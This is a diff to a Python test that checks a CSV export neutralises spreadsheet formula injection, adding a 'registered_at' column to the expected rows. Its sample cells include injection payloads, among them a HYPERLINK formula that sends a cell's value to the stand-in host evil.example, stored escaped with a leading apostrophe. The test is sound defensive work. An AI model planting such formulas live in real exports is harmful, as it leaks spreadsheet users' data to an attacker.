@@ -85,16 +85,16 @@ def test_r02_formula_cells_in_check_data_csv_are_neutralised(tmp_path: Path) -> 
     assert _all_quoted(body, rows)
     assert rows[0] == ["source", "file", "sheet", "row", "reasons", "activity_id", "date", "company_id", "cvr",
                        "company_name", "municipality", "segment", "activity_type", "growth_programme", "referred",
-                       "topics"]
+                       "topics", "registered_at"]
     assert rows[1:] == [
         ["activities", "crm_activities.csv", "", "2", "unknown-municipality (municipality)", "'@SUM(A1)",
          "2024-03-01", "'=1+1", "", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click me\")", "Atlantis", "drift",
-         "individuel", "nej", "nej", ""],
+         "individuel", "nej", "nej", "", ""],
         ["activities", "crm_activities.csv", "", "3", "unknown-municipality (municipality)", "'A2", "2024-03-01",
          "'C2", "", "Firma", "'=HYPERLINK(\"http://evil.example\",\"click\")", "drift", "individuel", "nej", "nej",
-         ""],
+         "", ""],
         ["activities", "crm_activities.csv", "", "4", "bad-date (date); unknown-activity-type (activity_type)",
-         "'A3", "'+1+1", "'C3", "", "Firma", "Aarhus", "drift", "'-2+3", "nej", "nej", ""],
+         "'A3", "'+1+1", "'C3", "", "Firma", "Aarhus", "drift", "'-2+3", "nej", "nej", "", ""],
     ]
     # no cell a spreadsheet would run: none starts with = + - @, tab or CR
     assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
